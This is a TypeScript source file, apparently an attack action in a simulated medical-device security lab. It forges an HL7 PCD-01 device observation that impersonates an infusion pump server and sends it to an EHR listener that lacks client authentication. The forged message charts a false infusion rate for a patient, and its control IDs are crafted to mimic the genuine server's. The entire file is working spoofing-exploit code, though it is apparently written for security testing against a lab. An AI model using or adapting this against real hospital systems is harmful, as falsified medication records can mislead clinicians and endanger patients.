import crypto from 'node:crypto';
import { z } from 'zod';
import type { Infusion } from '../../simulators/contract/pump-messages.ts';
import { pumpModel } from '../../simulators/fleet/fleet-plan.ts';
import { buildPcd01 } from '../../simulators/hl7/pcd/pcd01-device-observation.ts';
import type { OrderView, PumpView } from '../engine/lab-under-test.ts';
import { hl7Parties } from './hl7-parties.ts';
import type { Action } from './action.ts';
import { exchangeMllp } from './clients/mllp-exchange.ts';
import { connectionChannel, evidence, evidenceCodes, report, statusOf } from './evidence.ts';
import { addressOf, drugEntry, endpointFor } from './targets.ts';

const params = z.strictObject({
  /** The false rate reported, mL/h. */
  rate: z.number().nonnegative().max(1200),
});

/** The rogue server claims to be the pump server, writing to the EHR. */
const { pumpServer, ehr } = hl7Parties;

/**
 * A rogue pump server (ICSMA-22-251-01, CVE-2022-26394: no mutual authentication, a spoofed server
 * works): a [PCD-01] ORU^R01 (IHE PCD TF-2 3.1) to the EHR's HL7 listener over one-way TLS with no
 * client certificate, charting a false rate for the infusion of a patient the attacker saw in the
 * room. The EHR acknowledges only after filing the entry (pcd-intake.ts). Done on AA or CA.
 */
export const hl7ForgeObservation: Action<typeof params> = {
  name: 'hl7-forge-observation',
  summary: "Sends the EHR a forged PCD-01 observation reporting a false rate for a seen patient's infusion.",
  params,
  async run(context, { rate }) {
    const reached = endpointFor(context, 'ehr-hl7');
    if (!reached.ok) return report('blocked', 'The EHR’s HL7 listener is out of reach.', [reached.evidence]);
    const seen = context.lab.observe.orders()[0];
    if (!seen)
      return report('blocked', 'No order seen at a bedside.', [
        evidence('hl7', evidenceCodes.noTarget, 'no order seen'),
      ]);
    const pump = context.lab.observe.pumps().find((candidate) => candidate.serial === seen.serial);
    const message = forgedObservation(seen, pump, rate, context.lab.now());
    const where = addressOf(reached.endpoint);
    const answer = await exchangeMllp(reached.endpoint, context.attacker.address, message);
    if (!answer.ok) {
      return report('blocked', 'The EHR refused the connection.', [
        evidence(connectionChannel(answer.code), answer.code, answer.line, where),
      ]);
    }
    const { code, errors } = answer.ack;
    const detail = [...errors.map((error) => error.code), ...answer.applicationErrors].join(',');
    const accepted = code === 'AA' || code === 'CA';
    return report(
      statusOf(accepted),
      accepted ? `The EHR charted a forged rate of ${rate} mL/h.` : 'The EHR refused the forged observation.',
      [evidence('hl7', code || 'NO_MSA', `MSA-1 ${code}${detail ? `, ERR ${detail}` : ''}`, seen.serial)],
    );
  },
};

function forgedObservation(seen: OrderView, pump: PumpView | undefined, rate: number, now: number): string {
  const drug = drugEntry(seen.drugId);
  const concentration = drug?.entry.concentration ?? { amount: 1, unit: 'mg' };
  const infusion: Infusion = {
    infusionId: pump?.infusionId ?? seen.orderId,
    patientId: seen.mrn,
    drugId: seen.drugId,
    drugName: drug?.entry.name ?? seen.drugId,
    concentration: { amount: concentration.amount, unit: `${concentration.unit}/mL` },
    rate,
    vtbi: 500,
    volumeInfused: pump?.volumeInfused ?? 0,
  };
  return buildPcd01({
    status: {
      serial: seen.serial,
      model: pumpModel,
      libraryVersion: pump?.libraryVersion ?? null,
      careArea: drug?.careArea ?? 'icu',
      state: rate > 0 ? 'infusing' : 'paused',
      infusion,
      sentAt: new Date(now).toISOString(),
    },
    patient: { mrn: seen.mrn },
    // Shaped like the pump server's own ids (control-ids.ts): `P`, lab time in base 36, random hex.
    controlId: `P${now.toString(36)}${crypto.randomBytes(3).toString('hex')}`.slice(0, 20),
    at: now,
    sender: pumpServer,
    receiver: ehr,
  });
}
